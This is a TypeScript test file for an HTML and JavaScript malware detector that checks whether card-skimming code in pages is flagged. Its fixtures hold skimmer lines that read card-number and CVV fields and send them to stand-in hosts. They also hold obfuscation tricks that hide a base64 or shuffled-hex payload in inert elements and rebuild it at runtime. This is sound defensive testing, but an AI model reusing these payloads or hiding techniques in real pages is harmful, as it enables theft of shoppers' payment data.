import { readFileSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { analyzeScript } from '../../detector/index.ts'
import { javascriptUrlCode, looksLikeHtml, splitHtml } from '../../detector/html.ts'
import { loadSamples } from '../../fixtures/samples/load.ts'

const DIR = join(import.meta.dirname, '../../fixtures/analyze-mix')

interface Expected {
  verdict: string
  rules: string[]
  notRules?: string[]
  /** a finding of `rule` points into `text` (a string literal: maybe at its quote) */
  at?: { rule: string; text: string }[]
}

const fixtures = readdirSync(DIR)
  .filter((f) => f.endsWith('.html'))
  .sort()
  .map((f) => ({
    name: f,
    html: readFileSync(join(DIR, f), 'utf8'),
    expected: JSON.parse(
      readFileSync(join(DIR, f.replace(/\.html$/, '.expected.json')), 'utf8'),
    ) as Expected,
  }))

function positionOf(text: string, needle: string): { line: number; column: number } {
  const index = text.indexOf(needle)
  expect(index, `${needle} is in the fixture`).toBeGreaterThanOrEqual(0)
  const before = text.slice(0, index).split('\n')
  return { line: before.length, column: (before.at(-1) ?? '').length }
}

describe('HTML fixtures are judged by the code they contain', () => {
  it('has a flagged and a clean fixture', () => {
    expect(fixtures.map((f) => f.expected.verdict)).toEqual(
      expect.arrayContaining(['malicious', 'clean']),
    )
  })

  it.each(fixtures)('$name', ({ html, expected }) => {
    const v = analyzeScript(html)
    const rules = v.findings.map((f) => f.rule)
    expect(v.verdict).toBe(expected.verdict)
    expect(rules).toEqual(expect.arrayContaining(expected.rules))
    for (const r of expected.notRules ?? []) expect(rules).not.toContain(r)
    for (const { rule, text } of expected.at ?? []) {
      const want = positionOf(html, text)
      const got = v.findings.filter((f) => f.rule === rule && f.line === want.line)
      expect(got.length, `${rule} at line ${want.line}`).toBeGreaterThan(0)
      const inside = (c: number): boolean => c >= want.column - 1 && c < want.column + text.length
      expect(got.map((f) => f.column).some(inside), `${rule} inside ${text}`).toBe(true)
    }
  })
})

describe('an HTML document', () => {
  const skimmer = loadSamples().find((s) => s.name === 'malicious/atob-eval-loader.js')
  const benign = 'function toggle(){document.body.classList.toggle("menu")}'

  it('gets the verdict and score of its worst part, whatever the other parts hold', () => {
    if (!skimmer) throw new Error('sample malicious/atob-eval-loader.js is missing')
    const alone = analyzeScript(skimmer.source)
    const page = `<!doctype html>\n<script>${benign}</script>\n<p onclick="toggle()">menu</p>\n<script>\n${skimmer.source}</script>\n`
    const v = analyzeScript(page)
    expect(v.verdict).toBe(alone.verdict)
    expect(v.score).toBe(alone.score)
    // every point is explained by a finding of the worst part
    expect(v.findings.reduce((s, f) => s + f.points, 0)).toBeGreaterThanOrEqual(v.score)
  })

  it('points findings at lines and columns of the HTML file', () => {
    if (!skimmer) throw new Error('sample malicious/atob-eval-loader.js is missing')
    const prefix = '<html>\n<body>\n  <p>Checkout</p>\n  <script>'
    const html = `${prefix}${skimmer.source}</script></body></html>`
    const inScript = analyzeScript(skimmer.source).findings.find((f) => f.points > 0)
    const inFile = analyzeScript(html).findings.find((f) => f.rule === inScript?.rule)
    expect(inScript).toBeDefined()
    expect(inFile).toMatchObject({
      line: (inScript?.line ?? 0) + 3,
      // the script starts at line 4, column 10 of the file; only its first line shifts right
      column: inScript?.line === 1 ? (inScript?.column ?? 0) + 10 : inScript?.column,
    })
    expect(inFile?.message).toMatch(/inline <script>/)
  })

  it('judges the code of an event handler and of a javascript: URL', () => {
    const exfil =
      "new Image().src='https://drop.test/c?d='+btoa(document.querySelector('[autocomplete=cc-number]').value)"
    for (const html of [
      `<button onclick="${exfil}">Pay</button>`,
      `<a href="javascript:${encodeURIComponent(exfil)}">Pay</a>`,
    ]) {
      const v = analyzeScript(html)
      expect(v.verdict, html).not.toBe('clean')
      expect(v.findings.map((f) => f.rule)).toContain('card-field-read-and-send')
    }
  })

  it('leaves data blocks alone and lists external scripts without judging them', () => {
    const html = `<script type="application/ld+json">{"eval": "atob(x)"}</script>
<script type="text/template"><%= eval(atob(x)) %></script>
<script src="https://cdn.test/app.js">ignored()</script>`
    const v = analyzeScript(html)
    expect(v.verdict).toBe('clean')
    expect(v.findings.map((f) => f.rule)).toEqual(['html-input'])
    expect(v.findings[0]?.message).toMatch(/0 inline scripts.*https:\/\/cdn\.test\/app\.js/)
  })

  it('is read as HTML when the caller says so (a .html file), whatever it starts with', () => {
    expect(analyzeScript('var a = 1', { html: true }).findings.map((f) => f.rule)).toEqual([
      'html-input',
    ])
  })

  it('leaves JavaScript as it was: no HTML reading for scripts', () => {
    for (const s of loadSamples().slice(0, 12)) {
      expect(looksLikeHtml(s.source), s.name).toBe(false)
      expect(analyzeScript(s.source).findings.map((f) => f.rule)).not.toContain('html-input')
    }
  })
})

describe('looksLikeHtml', () => {
  it.each([
    '<!doctype html><title>x</title>',
    '\uFEFF  \n<html>',
    '<!-- generated -->\n<!-- twice -->\n<div id="app"></div>',
    '<script>alert(1)</script>',
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"></html>',
    '<p>',
    '<br/>',
  ])('markup: %j', (text) => expect(looksLikeHtml(text)).toBe(true))

  it.each([
    'var a = 1 < 2',
    '<!-- legacy comment in a classic script\nvar a = 1',
    '// <div>\nvar a',
    '< div>',
    '',
  ])('not markup: %j', (text) => expect(looksLikeHtml(text)).toBe(false))
})

describe('splitHtml', () => {
  it('finds scripts, handlers and javascript: URLs with where each starts', () => {
    const html = `<div>\n  <a href=" java\tscript:go(%22x%22)" onmouseover='hover()'>x</a>\n<script type="module">\nimport "/a.js"\n</script>\n<form action="JavaScript:submit()"></form>`
    const split = splitHtml(html)
    expect(split.parts.map((p) => [p.kind, p.label, p.source, p.line, p.column])).toEqual([
      ['url', 'javascript: URL in href', 'go("x")', 2, 11],
      ['handler', 'onmouseover handler', 'hover()', 2, 50],
      ['script', 'inline <script>', '\nimport "/a.js"\n', 3, 22],
      ['url', 'javascript: URL in action', 'submit()', 6, 25],
    ])
  })

  it('counts the same code once and reads markup nested far too deep in linear time', () => {
    const html = '<div>'.repeat(100_000) + '<b onclick="a()"></b>'.repeat(3)
    const started = performance.now()
    const split = splitHtml(html)
    expect(split.parts).toHaveLength(1)
    // 100,000 nested divs: a quadratic parser takes minutes here
    expect(performance.now() - started).toBeLessThan(20_000)
  })

  it('reads handlers on every element, style and script included', () => {
    const html = '<style onload="a()">p{}</style><script src="x.js" onerror="b()"></script>'
    expect(splitHtml(html).parts.map((p) => p.source)).toEqual(['a()', 'b()'])
  })

  it('skips what a browser running scripts never runs: noscript, textarea, title, iframe text', () => {
    const html = `<noscript><img src=x onerror="a()"><script>b()</script></noscript>
<textarea><script>c()</script></textarea><title><script>d()</script></title>
<iframe><script>e()</script></iframe><script>f()</script>`
    expect(splitHtml(html).parts.map((p) => p.source)).toEqual(['f()'])
  })

  it('counts lines of CRLF files and finds values in unquoted, repeated and spaced attributes', () => {
    const html =
      '<p>\r\n<a\r\n  onclick = go() onclick="ignored()" href=javascript:x()>a</a>\r\n<script>y()</script>'
    expect(splitHtml(html).parts.map((p) => [p.source, p.line, p.column])).toEqual([
      ['go()', 3, 12],
      ['x()', 3, 53],
      ['y()', 4, 8],
    ])
  })

  it('reads javascript: URLs as a browser does', () => {
    expect(javascriptUrlCode('  JAVASCRIPT:alert(1)')).toBe('alert(1)')
    expect(javascriptUrlCode('java\nscript:a(%27b%27)')).toBe("a('b')")
    expect(javascriptUrlCode('javascript:%E0%A4%A')).toBe('%E0%A4%A')
    expect(javascriptUrlCode('https://shop.test/')).toBeUndefined()
  })
})

describe('data blocks an inline script reads', () => {
  const page = (script: string, block = '{"to":"https://x.test/p","f":["cc_number","cvv"]}') =>
    `<div>footer</div><script type="application/json" id="cfg">${block}</script><script>${script}</script>`
  it('a script naming a JSON block by id is judged with the block after its own code', () => {
    const code = `var c = JSON.parse(document.getElementById('cfg').textContent)`
    const [part] = splitHtml(page(code)).parts
    expect(part?.label).toBe('inline <script> (with data block #cfg)')
    expect(part?.source.startsWith(code)).toBe(true)
    expect(part?.source).toContain('"cc_number"')
  })
  it('not a script that names no block, nor a block that is not JSON', () => {
    expect(splitHtml(page('var c = 1')).parts[0]?.source).toBe('var c = 1')
    const code = `document.querySelector('#cfg')`
    expect(splitHtml(page(code, '{not json')).parts[0]?.source).toBe(code)
  })
})

describe("base64 text of the page's elements", () => {
  const stage = `document.addEventListener('submit', function () {
    navigator.sendBeacon('https://seal-check.example/v', btoa(document.querySelector('#cc_number').value + '|' + document.querySelector('#cvv').value))
  })`
  const wrapped = (
    Buffer.from(stage)
      .toString('base64')
      .match(/.{1,64}/g) ?? []
  ).join('\n        ')
  const page = (script: string): string => `<div class="seal"><svg><desc id="d">
        ${wrapped}
      </desc></svg></div>
    <script>${script}</script>`

  it("is judged with a script that reads elements' text", () => {
    const v = analyzeScript(
      page(
        `var t = document.getElementById('d').textContent.replace(/\\s+/g, ''); new Function(atob(t))()`,
      ),
      { html: true },
    )
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.rule)).toContain('card-field-read-and-send')
  })

  it('is not read into a script that reads no text', () => {
    const v = analyzeScript(page(`document.documentElement.classList.add('js')`), { html: true })
    expect(v.findings.map((f) => f.rule)).not.toContain('card-field-read-and-send')
  })

  // the stage in hex, cut in four, kept in inert elements out of order and numbered by `data-n`
  const hex = Buffer.from(stage).toString('hex')
  const quarter = Math.ceil(hex.length / 4)
  const pieces = [0, 1, 2, 3].map((i) => hex.slice(i * quarter, (i + 1) * quarter))
  const shuffled = (numbered: boolean): string =>
    [2, 0, 3, 1]
      .map((i) => `<noscript${numbered ? ` data-n="${i}"` : ''}>${pieces[i]}</noscript>`)
      .join('\n')
  const reader = `<script>var t = [].slice.call(document.querySelectorAll('noscript[data-n]'))
    .sort(function (a, b) { return a.dataset.n - b.dataset.n })
    .map(function (e) { return e.textContent.trim() }).join('');
    var s = ''; for (var i = 0; i < t.length; i += 2) s += String.fromCharCode(parseInt(t.substr(i, 2), 16));
    var el = document.createElement('script'); el.text = s; document.head.appendChild(el)</script>`

  it('split in hex over inert elements is joined in the order they are numbered', () => {
    const v = analyzeScript(`<footer>${shuffled(true)}</footer>${reader}`, { html: true })
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.rule)).toContain('card-field-read-and-send')
    expect(splitHtml(`${shuffled(true)}${reader}`).parts[0]?.label).toContain('encoded text')
  })

  it('is joined in its numbered order beside an unrelated hex text of the page (a build hash)', () => {
    const hash = '<small class="build">' + 'ab12'.repeat(16) + '</small>'
    const v = analyzeScript(`${hash}<footer>${shuffled(true)}</footer>${reader}`, { html: true })
    expect(v.verdict).toBe('malicious')
  })

  it('is not pieced together where the pieces are not numbered and out of order', () => {
    const v = analyzeScript(`<footer>${shuffled(false)}</footer>${reader}`, { html: true })
    expect(v.findings.map((f) => f.rule)).not.toContain('card-field-read-and-send')
  })
})
